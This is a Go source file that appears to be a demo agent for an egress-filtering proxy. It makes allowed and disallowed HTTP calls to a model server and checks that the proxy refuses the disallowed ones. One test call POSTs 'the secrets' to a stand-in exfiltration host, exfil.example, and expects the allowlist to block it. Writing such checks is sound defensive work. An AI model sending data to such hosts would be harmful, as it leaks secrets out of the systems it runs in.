package main

import (
	"bufio"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"
)

// call is one thing the agent tries, and what is to become of it.
type call struct {
	What   string // for the reader
	Method string
	URL    string
	Body   string
	Stream bool

	Status int    // what it should get; 0: no tunnel at all
	Reason string // of the refusal; "" for an answer
}

const chat = "/v1/chat/completions"

// calls is what the agent tries at the model server whose address is base.
func calls(base string) []call {
	question := `{"model":"demo","messages":[{"role":"user","content":"What is the capital of France?"}]}`
	stream := `{"model":"demo","stream":true,"messages":[{"role":"user","content":"Count."}]}`
	return []call{
		{What: "ask the model", Method: "POST", URL: base + chat, Body: question, Status: 200},
		{What: "ask for a stream", Method: "POST", URL: base + chat, Body: stream, Stream: true, Status: 200},
		{What: "another path", Method: "GET", URL: base + "/v1/files", Status: 403, Reason: "path_not_allowed"},
		{What: "another method", Method: "DELETE", URL: base + chat, Status: 403, Reason: "method_not_allowed"},
		{What: "another host", Method: "POST", URL: "https://exfil.example/drop", Body: "the secrets", Reason: "not_in_allowlist"},
	}
}

// result is what became of a call. The agent prints it as a line of JSON.
type result struct {
	Call       call
	Status     int
	Reason     string
	Text       string // the model's answer, or the refusal's words
	FirstEvent bool   // no result: the first event of the stream has come
}

// check compares a result with what should have become of the call.
func (r result) check() error {
	if r.Status != r.Call.Status || !strings.Contains(r.Reason, r.Call.Reason) || r.Call.Reason == "" && r.Reason != "" {
		return fmt.Errorf("%s %s: got %d %q %q, want %d %q", r.Call.Method, r.Call.URL, r.Status, r.Reason, r.Text, r.Call.Status, r.Call.Reason)
	}
	return nil
}

// agent makes its calls as any program behind the engine does: through the
// proxy and with the roots that its environment names. It prints a result a
// line.
//
// NO_PROXY leaves the proxy out for names below localhost, so the demo, whose
// model server has one, sets it by hand.
func agent(base, proxy, roots string) {
	client, err := newClient(proxy, roots)
	if err != nil {
		fmt.Fprintln(os.Stderr, "agent:", err)
		os.Exit(1)
	}
	out := json.NewEncoder(os.Stdout)
	report := func(r result) {
		if err := out.Encode(r); err != nil {
			fmt.Fprintln(os.Stderr, "agent:", err)
			os.Exit(1)
		}
	}
	for _, c := range calls(base) {
		report(try(client, c, report))
	}
}

func newClient(proxy, roots string) (*http.Client, error) {
	through, err := url.Parse(proxy)
	if err != nil || through.Host == "" {
		return nil, fmt.Errorf("HTTPS_PROXY is %q: run me behind aegrail-engine exec", proxy)
	}
	pem, err := os.ReadFile(roots)
	if err != nil {
		return nil, fmt.Errorf("reading SSL_CERT_FILE: %w", err)
	}
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM(pem) {
		return nil, fmt.Errorf("no certificates in SSL_CERT_FILE %s", roots)
	}
	return &http.Client{Transport: &http.Transport{
		Proxy:             http.ProxyURL(through),
		TLSClientConfig:   &tls.Config{RootCAs: pool},
		ForceAttemptHTTP2: true,
	}}, nil
}

func try(client *http.Client, c call, report func(result)) result {
	req, err := http.NewRequest(c.Method, c.URL, strings.NewReader(c.Body))
	if err != nil {
		return result{Call: c, Text: err.Error()}
	}
	req.Header.Set("Content-Type", "application/json")
	resp, err := client.Do(req)
	if err != nil {
		// A CONNECT that is refused: the reason is in the status line, which is
		// all that most clients show.
		return result{Call: c, Reason: strings.TrimPrefix(rootCause(err), "aegrail: ")}
	}
	defer resp.Body.Close()
	r := result{Call: c, Status: resp.StatusCode, Reason: resp.Header.Get("X-Aegrail-Reason")}
	if c.Stream && resp.StatusCode == http.StatusOK {
		r.Text = readStream(resp.Body, func() { report(result{FirstEvent: true}) })
		return r
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		r.Text = err.Error()
		return r
	}
	var answer struct {
		Choices []struct{ Message struct{ Content string } }
		Detail  string
	}
	if err := json.Unmarshal(body, &answer); err != nil {
		r.Text = string(body)
	} else if len(answer.Choices) > 0 {
		r.Text = answer.Choices[0].Message.Content
	} else {
		r.Text = answer.Detail
	}
	return r
}

// readStream reads server-sent events, says when the first has come, and
// returns their data in a row.
func readStream(body io.Reader, first func()) string {
	var words []string
	lines := bufio.NewScanner(body)
	for lines.Scan() {
		data, ok := strings.CutPrefix(lines.Text(), "data: ")
		if !ok {
			continue
		}
		if len(words) == 0 {
			first()
		}
		words = append(words, data)
	}
	return strings.Join(words, " ")
}

// rootCause is the innermost error's text.
func rootCause(err error) string {
	for inner := errors.Unwrap(err); inner != nil; inner = errors.Unwrap(err) {
		err = inner
	}
	return err.Error()
}
